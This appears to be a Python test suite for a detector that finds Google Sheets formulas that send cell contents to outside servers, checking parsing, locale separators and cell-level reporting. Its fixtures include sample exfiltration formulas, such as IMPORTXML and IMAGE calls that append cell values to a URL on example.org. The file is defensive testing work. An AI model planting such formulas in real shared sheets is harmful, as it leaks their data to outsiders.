"""Formulas that send out what a sheet holds are found, wherever they hide in a cell."""

from __future__ import annotations

import pytest

from ambasada.sources.google_formulas import SENDING, Formula, sending_functions
from tests.sheets import workbook
from tests.sheets.reader import book, reader, source
from tests.sheets.server import SheetsServer

FOUND = (
    ('=IMPORTXML("https://example.org/?x="&A2,"//a")', ("IMPORTXML",)),
    ('=importxml("https://example.org";"//a")', ("IMPORTXML",)),  # separators of another locale
    ('=IF(A1="x", IFERROR( Image ("https://example.org/"&B2) ; ""),1)', ("IMAGE",)),
    (
        '={IMPORTRANGE("key";"a!A1")\\HYPERLINK("https://example.org")}',
        ("IMPORTRANGE", "HYPERLINK"),
    ),
    ("=\nWEBSERVICE(A1)&WEBSERVICE(A2)", ("WEBSERVICE",)),
    ('=+IMPORTDATA("https://example.org")', ("IMPORTDATA",)),
    ('=A1&"a ""quoted"" word"&IMPORTFEED(A2)', ("IMPORTFEED",)),
)
NOT_FOUND = (
    '="IMPORTXML(x)"',  # only a text
    "=MYIMAGE(A1)",
    "=IMAGES!A1",
    '=GOOGLEFINANCE("EURPLN")',  # tells Google only, who has the sheet anyway
    "=SUM(A1:A9)",
    '=HYPERLINKS + "("',
)


@pytest.mark.parametrize(("formula", "functions"), FOUND)
def test_a_function_that_sends_is_found(formula: str, functions: tuple[str, ...]) -> None:
    assert sending_functions(formula) == functions


@pytest.mark.parametrize("name", SENDING)
def test_each_function_is_found(name: str) -> None:
    assert sending_functions(f"=x({name.lower()}(A1))") == (name,)


@pytest.mark.parametrize("formula", NOT_FOUND)
def test_what_sends_nothing_is_not_found(formula: str) -> None:
    assert sending_functions(formula) == ()


def test_they_are_told_with_their_cell_and_stay_told(server: SheetsServer) -> None:
    sending = workbook.Formula('=IMAGE("https://example.org/?"&B2)', "")
    elsewhere = workbook.Formula('=IMPORTDATA("https://example.org")', "canary")
    rows = (
        ("note", "case_id", "received_at", "category"),
        (elsewhere, "C-1", "2026-11-02", "other"),  # in a column that is not agreed: not asked for
        ("", "C-2", "2026-11-02", sending),
        ("IMAGE(", "C-3", "2026-11-02", "IMAGE(x)"),  # texts
    )
    server.put(book(cases=rows))
    sheets = reader(server)
    first = sheets.read(source())
    assert first.formulas == ()

    second = sheets.read(source(), first.seen)
    assert second.formulas == (Formula("cases", 3, "category", "IMAGE"),)

    server.forget()
    third = sheets.read(source(), second.seen)
    assert third.formulas == second.formulas
    assert server.asked() == ["file"]

    server.books["one"].edit("cases", lambda tab: tab.rows.pop(2))
    fourth = sheets.read(source(), sheets.read(source(), third.seen).seen)
    assert fourth.formulas == ()


def test_formulas_that_cannot_be_looked_at_do_no_harm(server: SheetsServer) -> None:
    server.put(book())
    sheets = reader(server)
    seen = sheets.read(source()).seen
    server.fail("status", of=("values",), status=503)
    read = sheets.read(source(), seen)
    assert read.book is None and not read.seen.has_formulas_looked_at
